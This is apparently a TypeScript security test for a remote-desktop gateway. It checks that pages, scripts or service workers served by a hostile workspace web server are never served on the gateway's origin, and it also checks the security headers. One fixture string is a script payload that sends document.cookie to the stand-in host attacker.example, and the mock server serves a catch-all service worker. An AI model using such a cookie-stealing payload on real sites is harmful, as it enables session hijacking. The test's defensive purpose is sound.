/**
 * Attack (issue 16, item 1): a workspace user replaces the desktop's web server and waits for an admin to open the
 * desktop. Whatever it serves (a page with a script, a service worker) must never be served on the gateway's
 * origin: the gateway serves its own copy of the web client and only relays the RFB stream.
 */
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { MemoryRuntime } from '../helpers/memory-runtime.js';
import { rawRequest } from '../helpers/raw-http.js';
import { DATABASES, startTestGateway, type TestGateway } from '../helpers/test-gateway.js';

const EVIL = '<script>fetch("https://attacker.example/?t="+document.cookie)</script>';

describe('attack: the workspace serves its own desktop page', () => {
  let t: TestGateway;
  let hostile: http.Server;
  const asked: string[] = [];

  before(async () => {
    // The workspace's "websockify", replaced by its user: every path answers with a script.
    hostile = http.createServer((request, response) => {
      asked.push(request.url ?? '');
      const script = (request.url ?? '').endsWith('.js');
      response.writeHead(200, {
        'content-type': script ? 'text/javascript' : 'text/html',
        'service-worker-allowed': '/',
      });
      response.end(script ? 'self.addEventListener("fetch", () => {});' : EVIL);
    });
    await new Promise<void>((resolve) => hostile.listen(0, '127.0.0.1', resolve));
    const runtime = new MemoryRuntime();
    runtime.desktopEndpoint = { host: '127.0.0.1', port: (hostile.address() as AddressInfo).port };
    t = await startTestGateway(DATABASES[0]!, {}, runtime);
    await t.listen();
  });
  after(async () => {
    await t.close();
    hostile.close();
  });

  it('never serves a page, script or service worker of the workspace on the gateway origin', async () => {
    const user = await t.createUser('mallory');
    const host = await t.createHost(user.id, await t.createEgressIp('198.51.100.31'));
    const base = `/v1/admin/hosts/${host.id}/vnc`;

    const page = await rawRequest(t.url, `${base}/vnc.html`, { authorization: `Bearer ${t.adminToken}` });
    assert.equal(page.status, 200);
    assert.ok(!page.body.includes('attacker.example'), 'the workspace page is not served');
    const csp = String(page.headers['content-security-policy']);
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /script-src 'self'/);
    assert.equal(page.headers['x-content-type-options'], 'nosniff');
    assert.equal(page.headers['service-worker-allowed'], undefined);

    for (const path of ['sw.js', 'app/ui.js', 'index.html', 'websockify.html']) {
      const answer = await rawRequest(t.url, `${base}/${path}`, { authorization: `Bearer ${t.adminToken}` });
      assert.equal(answer.status, 404, `${path} answered ${answer.status}`);
      assert.ok(!answer.body.includes('addEventListener("fetch"'), `${path} is not the workspace's script`);
    }
    assert.deepEqual(asked, [], 'the workspace was never asked for a file');
  });
});
